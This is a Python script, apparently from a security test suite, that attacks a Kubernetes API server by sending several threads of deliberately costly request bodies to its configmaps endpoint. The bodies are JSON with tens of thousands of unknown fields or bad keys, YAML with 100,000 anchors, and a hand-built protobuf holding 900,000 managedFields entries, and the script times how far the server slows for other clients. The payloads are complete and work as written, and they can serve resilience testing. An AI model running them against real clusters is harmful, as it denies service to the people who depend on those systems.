"""Bodies that take long to work on, several at a time: whoever asks for something small must not notice."""

import threading
import time

from clients import Probe

COUNT = 4


def attack(server):
    findings = []
    for what, content_type, body in [
        ("unknown fields", "application/json", unknown_fields()),
        ("bad keys", "application/json", bad_keys()),
        ("aliases", "application/yaml", aliases()),
        ("managed fields", "application/vnd.kubernetes.protobuf", managed_fields()),
    ]:
        with Probe(server) as probe:
            threads = [
                threading.Thread(target=send, args=(server, what, content_type, body, findings)) for _ in range(COUNT)
            ]
            [thread.start() for thread in threads]
            [thread.join() for thread in threads]
        findings += probe.findings(what, 0.3, 600e6)
    return findings


def send(server, what, content_type, body, findings):
    path = "/api/v1/namespaces/default/configmaps?fieldValidation=Strict&dryRun=All"
    began = time.monotonic()
    try:
        with server.connect(known=True, timeout=70) as stream:
            stream.sendall(
                f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: {content_type}\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body
            )
            status = stream.recv(65536).split(b" ", 2)[1].decode()
    except OSError as error:
        status = str(error)
    findings.append(f"{what}: {status} after {time.monotonic() - began:.1f} s")


def unknown_fields():
    fields = ",".join(f'"u{number}":1' for number in range(40_000))
    return f'{{"metadata":{{"name":"a"}},{fields}}}'.encode()


def bad_keys():
    fields = ",".join(f'"/{number}":""' for number in range(200_000))
    return f'{{"metadata":{{"name":"a"}},"data":{{{fields}}}}}'.encode()


def aliases():
    keys = "".join(f"  k{number}: &a{number} x\n" for number in range(100_000))
    return f"metadata:\n  name: a\ndata:\n{keys}".encode()


def managed_fields():
    """A ConfigMap whose metadata has nothing but 900,000 empty entries of managedFields."""
    metadata = b"\x8a\x01\x00" * 900_000
    raw = b"\x0a" + varint(len(metadata)) + metadata
    kind = b"\x0a\x02v1\x12\x09ConfigMap"
    return b"k8s\0" + b"\x0a" + varint(len(kind)) + kind + b"\x12" + varint(len(raw)) + raw


def varint(number):
    out = b""
    while number >= 128:
        out, number = out + bytes([number % 128 + 128]), number // 128
    return out + bytes([number])
